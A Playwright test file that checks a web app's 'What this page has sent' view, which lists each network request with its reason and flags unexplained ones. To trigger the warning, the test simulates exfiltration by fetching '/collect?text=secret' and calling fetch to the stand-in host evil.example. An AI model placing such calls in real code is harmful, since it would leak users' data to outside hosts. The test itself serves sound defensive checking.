import { expect, test } from '../fixtures/test';

test.use({ allowViolations: true, allowedRequests: /^https:\/\/evil\.example\// });

test("every request is listed with its reason; one that is not the app's own stands out", async ({
  context,
  page,
}) => {
  await page.goto('/settings');
  await page.getByRole('link', { name: 'What this page has sent' }).click();
  await expect(page.getByText('Every request is explained.')).toBeVisible();
  await expect(page.getByText(/none to another host/)).toBeVisible();
  for (const reason of ['Files of the app', 'Pages of the app', 'Which models there are'])
    await expect(page.getByText(reason, { exact: true })).toBeVisible();

  const other = await context.newPage();
  await other.goto('/requests');
  await page.evaluate(async () => {
    // the browser reports a request once its answer was read
    await (await fetch('/collect?text=secret')).text();
    await fetch('https://evil.example/collect').catch(() => undefined);
  });
  await expect(page.getByText(/The browser stopped 1 attempt .*evil\.example/)).toBeVisible();
  // tabs hear of each other's requests
  for (const tab of [page, other]) {
    await expect(tab.getByText('1 request is not explained.')).toBeVisible();
    await expect(tab.getByText('/collect?text=secret')).toBeVisible();
  }
});
